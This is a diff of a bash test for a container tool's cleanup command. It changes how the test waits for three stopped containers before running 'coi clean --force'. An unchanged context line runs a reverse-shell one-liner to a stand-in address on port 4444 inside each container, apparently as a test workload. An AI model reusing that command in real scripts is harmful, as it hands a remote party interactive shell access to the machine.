@@ -204,8 +204,9 @@ cleaned() { # NAME: no supervisor of it is left
 		coi run -- bash -c 'bash -i >& /dev/tcp/203.0.113.10/4444 0>&1; sleep 60' 3>&- >/dev/null 2>&1 || true
 	done
 	three() { [ "$(coi container list --format json | jq '[.[] | select(.status == "Stopped")] | length')" = 3 ]; }
-	# Three there are before the oldest has gone, too.
-	within 10 three
+	# Three there are before the oldest has gone, too: when nobody is at it any more.
+	within 20 quiet
+	three
 	coi clean --force
 	[ "$(coi container list --format json | jq 'length')" = 0 ]
 }
